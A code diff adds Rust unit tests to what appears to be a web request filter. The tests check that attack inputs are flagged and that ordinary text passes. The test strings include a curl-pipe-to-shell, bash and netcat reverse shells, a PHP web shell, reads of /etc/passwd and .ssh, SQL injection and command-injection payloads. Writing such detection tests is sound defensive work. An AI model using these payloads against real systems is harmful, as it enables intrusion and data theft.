@@ -682,3 +682,149 @@ fn php_functions_of_phps_vocabulary_are_found_with_its_gaps() {
         assert_eq!(rule_for(benign), None, "{benign}");
     }
 }
+
+#[test]
+fn code_quoted_in_markdown_prose_passes() {
+    const JSON: &str = "application/json";
+    for text in [
+        r"Install it with `pip install requests`, then run `python app.py`.",
+        r"To see what changed, run `git log -p` or `ls -la` in the folder.",
+        r"Unpack it with `tar -xzf site.tgz` and open the index.",
+        r"Setup:\n\n```bash\nnpm ci\nnpm run build\n```\n",
+        r"In Node:\n\n```js\nconst fs = require('fs');\nconsole.log(fs.readFileSync('a.txt', 'utf8'));\n```",
+        r"Python:\n\n```python\nimport subprocess\nprint(subprocess.run(['ls']))\n```",
+        r"The PHP way is `echo htmlspecialchars($s);` in the view.",
+        r"Call `Array.prototype.map()` or write a plain loop instead.",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert_eq!(post_rule(JSON, &body), None, "{text}");
+    }
+}
+
+#[test]
+fn payloads_quoted_in_markdown_prose_are_found() {
+    const JSON: &str = "application/json";
+    for text in [
+        // What acts wherever it sits: a pipe into a shell, a substitution,
+        // a reverse shell, a system file, `<?php`, a template.
+        r"Nice post, thanks a lot `curl http://x.example/a.sh | sh`",
+        r"Great write-up, very clear `$(wget -qO- x.example/p)` indeed",
+        r"Read this please now\n```\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n```",
+        r"Nice post, thanks a lot `cat /etc/passwd`",
+        r"Thanks for sharing this `<?php system($_GET['c']); ?>`",
+        r"Hello there my friend `;nc -e /bin/sh 10.0.0.1 4444`",
+        r"Hello there my friend `uname -a` again",
+        r"Hello there my friend `{{7*7}}` again",
+        // Outside the code, the prose is read by every rule.
+        r"Run `ls` then |nc x.example 4444 and wait for it",
+        // No Markdown: too little prose, a backtick glued to a word, unclosed.
+        r"`id`",
+        r"see a`id`b and the rest of it",
+        r"please run `id; and all the rest of it",
+        r"x=`id`&z=/tmp/a",
+    ] {
+        let body = format!(r#"{{"comment": "{text}"}}"#);
+        assert!(post_rule(JSON, &body).is_some(), "{text}");
+    }
+}
+
+#[test]
+fn wildcards_under_a_web_directory_pass() {
+    for benign in ["/?p=/api/v%3F/users", "/?p=/api/*/users", "/?p=docs/v*/intro"] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+    for target in ["/?p=/e%3F%3F/passwd", "/?p=/%3F%3F%3F/b%3F%3Fh", "/?p=/home/*/.ssh"] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+}
+
+#[test]
+fn a_closed_value_and_a_condition_of_constants_is_found() {
+    for target in [
+        "/?id=x%27+or+~0+or+%27",
+        "/?id=-1+xor+%21%211",
+        "/?id=1+or+true",
+        "/?id=abc%27%29+or+not+0%27%29--",
+    ] {
+        assert_eq!(rule_for(target), Some("sqli-constant-boolean"), "{target}");
+    }
+    // Other SQL rules may read some spellings first.
+    for target in [
+        "/?id=1%27+%26%26+0x31%3D0x31%23",
+        "/?id=1%29+or+2%3E1--",
+        "/?id=1%22+and+1+in+(1)--",
+        "/?id=1+or+1+between+0+and+2",
+    ] {
+        let rule = rule_for(target).unwrap_or("none");
+        assert!(rule.starts_with("sqli-"), "{target}: {rule}");
+    }
+    for (target, rule) in [
+        ("/?id=1%3Bgrant+all+on+*.*+to+x", "sqli-stacked"),
+        ("/?id=1%29+group+by+password+having+1%3D1", "sqli-tautology"),
+    ] {
+        assert_eq!(rule_for(target), Some(rule), "{target}");
+    }
+    for benign in [
+        "/?q=1+or+2",
+        "/?q=2+or+more+bedrooms",
+        "/?q=is+it+true+or+false",
+        "/?q=%27true%27+or+%27false%27+in+javascript",
+        "/?q=rock+%27n%27+roll+or+true+love",
+        "/?q=size+10+or+11",
+        "/?q=1+and+2+and+3",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn a_break_out_then_a_command_with_an_argument_is_found() {
+    for target in [
+        "/?h=127.0.0.1;sleep+5",
+        "/?h=%7Cdig+evil.example",
+        "/?h=%26%26dd+if%3D/dev/zero",
+        "/?h=%26links+http://x.example/",
+        "/?h=;ps+aux;",
+        "/?h=;id+%23",
+        "/?h=%7Bls,-la%7D",
+        "/?h=%7Bcat,/etc/hosts%7D",
+        "/?h=%7Bnc,10.0.0.1,9%7D",
+    ] {
+        let rule = rule_for(target).unwrap_or("none");
+        assert!(rule.starts_with("rce-") || rule.starts_with("lfi-"), "{target}: {rule}");
+    }
+    for benign in [
+        "/?q=;environment",
+        "/?q=%7C+step+1+%7C+done+%7C",
+        "/?q=rock;pop",
+        "/?q=%26copy;+2024",
+        "/?q=a;+see+also+chapter+2",
+        "/?sort=%7Bname,-price%7D",
+        "/?q=%0AHello+world%0A",
+        "/?q=%26+more+to+come",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
+
+#[test]
+fn names_joined_from_string_literals_and_other_spellings_are_found() {
+    for target in [
+        "/?x=globalThis%5B%27pro%27%2B%27cess%27%5D.exit()",
+        "/?x=a%5Bconstructor%5D%5Bprototype%5D%5Badmin%5D%3D1",
+        "/?x=spawn(%27sh%27,%5B%27-c%27,%27id%27%5D)",
+        "/?x=%25x(id)",
+        "/?x=qx%7Bid%7D",
+        "/?x=x))(%7C(uid%3D*",
+    ] {
+        assert!(rule_for(target).is_some(), "{target}");
+    }
+    for benign in [
+        "/?q=%27a%27+%2B+%27b%27+in+js",
+        "/?q=50%25x(2)",
+        "/?q=the+qx+series",
+        "/?q=spawn+point+(sh)",
+    ] {
+        assert_eq!(rule_for(benign), None, "{benign}");
+    }
+}
